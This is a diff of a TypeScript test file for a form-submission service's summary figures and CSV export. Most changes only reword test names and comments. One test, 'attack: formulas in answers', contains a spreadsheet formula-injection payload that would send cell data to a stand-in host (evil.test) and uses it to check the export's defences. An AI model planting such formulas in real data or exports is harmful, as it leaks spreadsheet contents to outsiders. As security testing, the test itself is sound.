@@ -1,4 +1,3 @@
-// The figures of what was sent, and its export: counted by the newest version, read row by row once.
 import { sql } from 'kysely'
 import { describe, expect, it } from 'vitest'
 import type { Output } from '#shared/api/endpoint.ts'
@@ -24,7 +23,7 @@ const summaryOf = async (slug: string, query = '') =>
   (await app.call<Summary>(`GET /submissions/forms/${slug}/summary${query}`, { token: staff.token })).body
 
 describe('figures', () => {
-  it('counts choices, measures numbers, averages marks, shows the newest words; spam is left out', async () => {
+  it('count choices, measure numbers, average ratings, show the newest texts, and leave spam out', async () => {
     const slug = await aContactForm(app)
     for (const [at, rooms] of [1, 2, 3, 10].entries())
       await aSubmission(app, slug, { name: `N${at}`, about: at < 3 ? 'job' : 'bill', mark: at + 2, rooms })
@@ -51,7 +50,7 @@ describe('figures', () => {
     expect((await summaryOf(slug, '?q=N3')).total).toBe(1)
   })
 
-  it('follows the newest version, and keeps what it no longer asks below', async () => {
+  it('follow the newest version, and list removed fields last', async () => {
     const slug = await aContactForm(app)
     await aSubmission(app, slug, { ...sara, about: 'job' })
     const city = { key: 'city', type: 'text', label: { en: 'City', fr: 'Ville', ar: 'مدينة' } }
@@ -79,7 +78,7 @@ describe('the export', () => {
     return { reply, bytes, lines: bytes.toString('utf8').slice(1).split('\r\n') }
   }
 
-  it('is a file that spreadsheets read: UTF-8 with its mark, one column a field of any version, words for choices', async () => {
+  it('is a CSV file for spreadsheets: UTF-8 with BOM, a column for each field of any version, labels for choices', async () => {
     const slug = await aContactForm(app)
     await aSubmission(app, slug, { name: 'سارة العمراني', about: 'job', rooms: 3 })
     const city = { key: 'city', type: 'text', label: { en: 'City', fr: 'Ville', ar: 'مدينة' } }
@@ -96,7 +95,7 @@ describe('the export', () => {
     expect(lines).toHaveLength(4)
   })
 
-  it('attack: formulas in what people write', async () => {
+  it('attack: formulas in answers', async () => {
     const slug = await aContactForm(app)
     const formula = '=HYPERLINK("https://evil.test?"&A1,"Click")'
     await aSubmission(app, slug, { name: formula, rooms: -5 })
@@ -108,7 +107,7 @@ describe('the export', () => {
   it('reads every row once over many batches, in the order of the list', async () => {
     const slug = await aContactForm(app)
     const form = await db().selectFrom('forms').select('id').where('slug', '=', slug).executeTakeFirstOrThrow()
-    // Moments within one millisecond, and the same moment twice: neither is skipped nor repeated.
+    // Timestamps within one millisecond, and equal timestamps: no row is skipped or repeated.
     await sql`
       insert into form_submissions (id, form_id, version, answers, language, status, created_at, updated_at)
       select gen_random_uuid(), ${form.id}, 1, jsonb_build_object('name', 'N' || n), 'en', 'new', moment, moment
@@ -123,7 +122,7 @@ describe('the export', () => {
   })
 })
 
-it('lists the jobs of a form for jobs in the same way', async () => {
+it('the list and figures of a job form count its jobs', async () => {
   await openMarket(app)
   const job = await anOpenJob(app, client, staff)
   const list = await listOf(app, staff, 'plumbing-job')
